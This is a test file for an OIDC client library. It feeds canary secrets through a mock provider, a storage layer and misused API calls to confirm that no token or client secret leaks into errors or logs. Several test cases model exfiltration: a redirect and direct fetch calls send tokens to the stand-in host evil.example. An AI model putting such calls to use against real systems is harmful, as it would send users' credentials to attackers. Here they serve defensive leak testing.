// @ts-check
// A provider, a store and a network that repeat every secret they were given, and an app that puts secrets in the wrong
// places: nothing of it can be seen in errors, events or logs.
import assert from "node:assert/strict";
import { afterEach, beforeEach, test } from "node:test";

import { IdpClient, memoryStorage } from "wasm-oidc";

import { keyPair, signed } from "../tools/issuer.mjs";
import { Watch, canary } from "./canaries.mjs";

const ISSUER = "https://idp.example";
const REDIRECT_URI = "https://app.example/callback";
const { privateKey, publicKey } = keyPair("RS256");
const KEYS = { keys: [{ ...publicKey.export({ format: "jwk" }), kid: "k1", use: "sig" }] };
const METADATA = {
  issuer: ISSUER, jwks_uri: `${ISSUER}/keys`, authorization_endpoint: `${ISSUER}/auth`, token_endpoint: `${ISSUER}/token`,
  userinfo_endpoint: `${ISSUER}/me`, revocation_endpoint: `${ISSUER}/revoke`, introspection_endpoint: `${ISSUER}/introspect`,
};
const SECRET_HEADER = canary("header");

/** @type {Watch} */
let watch;
beforeEach(() => {
  watch = new Watch();
  watch.listen();
});
afterEach(() => watch.letGo());

/** @typedef {(echo: string, init: RequestInit) => Response | Promise<Response>} Answer */

/** @param {unknown} body @param {number} [status] */
const json = (body, status = 200, headers = {}) =>
  new Response(JSON.stringify(body), { status, headers: { "content-type": "application/json", ...headers } });

/** What a provider can do wrong with what it was sent. @type {[string, Answer][]} */
const ECHOES = [
  ["describes", (echo) => json({ error: "invalid_grant", error_description: `cannot use ${echo}` }, 400)],
  ["names", (echo) => json({ error: echo.slice(0, 400) }, 400)],
  ["describes an unknown error", (echo) => json({ error: "x", error_description: echo }, 401)],
  ["fails", (echo) => json({ error: "server_error", error_description: echo }, 500)],
  ["shows a page", (echo) => new Response(`<p>${echo}</p>`, { headers: { "content-type": `text/html; x=${echo.slice(0, 300)}` } })],
  ["is no JSON", (echo) => new Response(`{"${echo}`, { headers: { "content-type": "application/json" } })],
  ["has a member twice", (echo) => new Response(`{"a":${JSON.stringify(echo)},"a":1}`, { headers: { "content-type": "application/json" } })],
  ["is of a wrong type", (echo) => json({ access_token: { echo }, token_type: "Bearer" })],
  ["has a strange token type", () => json({ access_token: canary("unused"), token_type: "DPoP" })],
  ["challenges", (echo) => new Response("", { status: 401, headers: { "www-authenticate": `Bearer error="${ascii(echo)}"` } })],
  ["redirects", (echo) => new Response("", { status: 302, headers: { location: `https://evil.example/?${ascii(echo)}` } })],
  ["is not reached", (echo) => Promise.reject(new TypeError(`fetch failed for ${echo}`))],
  ["is not reached because", (echo) => Promise.reject(new TypeError("fetch failed", { cause: Object.assign(new Error(echo), { code: "X" }) }))],
  ["throws text", (echo) => Promise.reject(echo)],
];

/** @param {string} text */
const ascii = (text) => text.replace(/[^\w.~+ -]/g, " ");

/** What of a request is secret, in the words of an answer. @param {RequestInit} init */
function echoOf(init) {
  const form = new URLSearchParams(typeof init.body === "string" ? init.body : "");
  const headers = new Headers(init.headers);
  return [...form.values(), headers.get("authorization") ?? "", headers.get("x-key") ?? ""].join(" ");
}

/** A provider that is right until it is told otherwise. @param {object} [options] */
async function world(options) {
  /** @type {Map<string, Answer>} */
  const instead = new Map();
  let nonce = "";
  let sentTo = "";
  const clientSecret = canary("client-secret");
  watch.hides("client secret", clientSecret);
  watch.hides("custom header", SECRET_HEADER);
  const tokens = () => {
    const now = Math.floor(Date.now() / 1000);
    const claims = { iss: ISSUER, sub: "usr_1", aud: "app", iat: now, exp: now + 300, nonce };
    const made = {
      access_token: canary("access-token"), refresh_token: canary("refresh-token"), token_type: "Bearer", expires_in: 300,
      id_token: signed({ alg: "RS256", kid: "k1" }, claims, privateKey), custom: canary("custom-member"),
    };
    for (const name of /** @type {const} */ (["access_token", "refresh_token", "id_token", "custom"])) watch.hides(name, made[name]);
    return made;
  };
  /** @type {Record<string, () => Response>} */
  const right = {
    "/.well-known/openid-configuration": () => json(METADATA),
    "/keys": () => json(KEYS),
    "/token": () => json(tokens()),
    "/me": () => json({ sub: "usr_1", email: "ada@example.com" }),
    "/revoke": () => new Response(""),
    "/introspect": () => json({ active: false }),
  };
  const fetch = async (/** @type {any} */ input, /** @type {any} */ init) => {
    const request = input instanceof Request ? input : new Request(input, init);
    const { pathname } = new URL(request.url);
    const body = await request.clone().text();
    const sent = { body, headers: request.headers };
    for (const [name, value] of new URLSearchParams(body)) {
      if (["code", "code_verifier", "refresh_token", "token", "client_secret"].includes(name)) watch.hides(name, value);
    }
    watch.hides("authorization", (request.headers.get("authorization") ?? "").split(" ")[1]);
    const answer = instead.get(pathname);
    return answer === undefined ? right[pathname]() : answer(echoOf(sent), sent);
  };
  const idp = await IdpClient.create({
    issuer: ISSUER, clientId: "app", clientSecret, redirectUri: REDIRECT_URI, scopes: "openid offline_access",
    session: "single-user", timeoutSeconds: 1, fetch, openUrl: (/** @type {string} */ url) => void (sentTo = url), ...options,
  });
  watch.follows(idp);
  const callback = async () => {
    await idp.signInRedirect({ loginHint: "ada@example.com", appState: { mine: canary("app-state") } });
    const sent = new URL(sentTo).searchParams;
    nonce = sent.get("nonce") ?? "";
    watch.hides("nonce", nonce);
    const code = canary("code");
    watch.hides("code", code);
    return `${REDIRECT_URI}?${new URLSearchParams({ code, state: sent.get("state") ?? "" })}`;
  };
  return { idp, instead, callback, signIn: async () => idp.handleRedirectCallback(await callback()) };
}

for (const [name, answer] of ECHOES) {
  test(`an endpoint that ${name} what it was sent shows nothing of it [X26, X34]`, async () => {
    const { idp, instead, callback, signIn } = await world();
    const failed = [];
    const tries = async (/** @type {string} */ where, /** @type {() => unknown} */ attempt) => {
      const outcome = await watch.tries(where, attempt);
      if (outcome instanceof Error) failed.push(where);
      watch.seesClient(idp);
    };
    instead.set("/token", answer);
    const url = await callback();
    await tries("the exchange", () => idp.handleRedirectCallback(url));
    instead.clear();
    await signIn();
    for (const path of ["/me", "/introspect", "/revoke"]) instead.set(path, answer);
    await tries("userinfo", () => idp.getUserInfo());
    await tries("introspection", () => idp.introspect(idp.agent?.tokens.access_token ?? ""));
    await tries("revocation", () => idp.revokeToken());
    instead.set("/token", answer);
    await tries("the refresh", () => idp.refresh());
    await tries("a forced token", () => idp.getAccessToken({ forceRefresh: true }));
    await tries("the agent", () => idp.getAgent());
    await tries("the sign-out", () => idp.signOut({ redirect: false }));
    assert.ok(failed.length >= 3, failed.join());
    assert.ok(watch.secrets.size >= 8, [...watch.secrets.values()].join());
    assert.deepEqual(watch.found(), []);
  });
}

test("a provider that never answers shows nothing of what it was sent [X26]", async () => {
  const { idp, instead, callback } = await world();
  instead.set("/token", () => new Promise(() => {}));
  const url = await callback();
  const error = await watch.tries("the exchange", () => idp.handleRedirectCallback(url));
  assert.equal(error.name, "TimeoutError");
  watch.seesClient(idp);
  assert.deepEqual(watch.found(), []);
});

test("a claim that repeats a secret, and one of another person, show nothing of the tokens [X26, X31, X32]", async () => {
  const { idp, instead, signIn } = await world();
  await signIn();
  instead.set("/me", () => json({ sub: "usr_2" }));
  assert.equal((await watch.tries("userinfo", () => idp.getUserInfo())).name, "SubjectMismatchError");
  const made = { access_token: canary("access"), token_type: "Bearer", refresh_token: canary("refresh"), id_token: "a.b.c" };
  for (const token of [made.access_token, made.refresh_token]) watch.hides("new token", token);
  for (const id_token of ["a.b.c", `${canary("id")}`, signed({ alg: "RS256", kid: "k1" }, { sub: canary("x") }, keyPair("RS256").privateKey)]) {
    watch.hides("ID token", id_token);
    instead.set("/token", () => json({ ...made, id_token }));
    await watch.tries("the refresh", () => idp.refresh());
    await watch.tries("tokens of the app's", () => idp.createAgent({ ...made, id_token }));
    watch.seesClient(idp);
  }
  assert.deepEqual(watch.found(), []);
});

for (const broken of ["load", "save", "delete", "lock"]) {
  test(`a store whose ${broken} repeats what it was given shows nothing of it [X26]`, async () => {
    const kept = memoryStorage();
    const fails = async (/** @type {unknown[]} */ ...given) => {
      throw new Error(`ERR wrong number of arguments for ${broken}: ${given.join(" ")} ${await kept.load(String(given[0]))}`);
    };
    const store = { ...kept };
    const { idp, signIn } = await world({ storage: store });
    await signIn();
    Object.assign(store, { [broken]: fails });
    const other = await world({ storage: { ...kept, [broken]: fails } });
    await watch.tries("a sign-in", () => other.signIn());
    await watch.tries("a refresh", () => other.idp.refresh());
    await watch.tries("a sign-out", () => other.idp.signOut({ redirect: false }));
    for (const client of [idp, other.idp]) watch.seesClient(client);
    assert.deepEqual(watch.found(), []);
  });
}

test("secrets in the wrong places are not repeated [X26]", async () => {
  const { idp, callback } = await world();
  const secret = canary("misplaced");
  watch.hides("misplaced", secret);
  /** @type {any} */
  const any = idp;
  const right = { issuer: ISSUER, clientId: "app", redirectUri: REDIRECT_URI };
  const attempts = [
    ...["scopes", "storage", "type", "clientAuth", "trustedAudiences", "timeoutSeconds", "responseMode", "algorithms", "jwks",
      "metadata", "apiOrigins", "fetch", "session", "verifySignature"].map((name) => () => IdpClient.create({ ...right, [name]: secret })),
    () => IdpClient.create({ ...right, clientSecret: /** @type {any} */ ({ secret }) }),
    () => IdpClient.create({ ...right, clientSecret: secret, clientAuth: { method: "none" } }),
    () => IdpClient.create({ ...right, clientAuth: /** @type {any} */ ({ method: secret, clientSecret: secret }) }),
    () => any.createAuthorizationUrl({ state: `${secret} ` }),
    () => any.createAuthorizationUrl({ nonce: { secret } }),
    () => any.createAuthorizationUrl({ maxAge: secret }),
    () => any.exchangeCode(`${REDIRECT_URI}?code=${secret}`, { state: secret }),
    () => any.exchangeCode({ code: secret, state: "x" }, { codeVerifier: secret, stateCheckedByCaller: "yes" }),
    () => any.exchangeCode({ code: secret }, { codeVerifier: `${secret}=`, stateCheckedByCaller: true }),
    () => any.handleRedirectCallback(`${REDIRECT_URI}?code=${secret}&state=${secret}&iss=${encodeURIComponent(ISSUER)}`),
    async () => any.handleRedirectCallback(`${await callback()}&code=${secret}`),
    async () => any.handleRedirectCallback(`${await callback()}&access_token=${secret}`),
    async () => any.handleRedirectCallback(`${await callback()}#state=${secret}`),
    () => any.createAgent({ access_token: { secret } }),
    () => any.createAgent({ access_token: `${secret} `, token_type: "Bearer", id_token: secret }),
    () => any.createAgent(secret),
    () => any.adopt({ tokens: { access_token: secret } }),
    () => any.introspect({ secret }),
    () => any.revokeToken({ secret }),
    () => any.verifyLogoutToken(secret, { store: memoryStorage() }),
    () => any.verifyLogoutToken(`${secret}.${secret}.${secret}`, { store: memoryStorage() }),
    () => any.checkToken({ secret }),
    () => any.fetch(`https://evil.example/?token=${secret}`),
    () => any.fetch("https://evil.example/", { headers: { authorization: `Bearer ${secret}` } }),
  ];
  let thrown = 0;
  for (const [at, attempt] of attempts.entries()) {
    thrown += (await watch.tries(`attempt ${at}`, attempt)) instanceof Error ? 1 : 0;
  }
  assert.ok(thrown >= attempts.length - 4, `${thrown} of ${attempts.length}`);
  watch.seesClient(idp);
  assert.deepEqual(watch.found(), []);
});
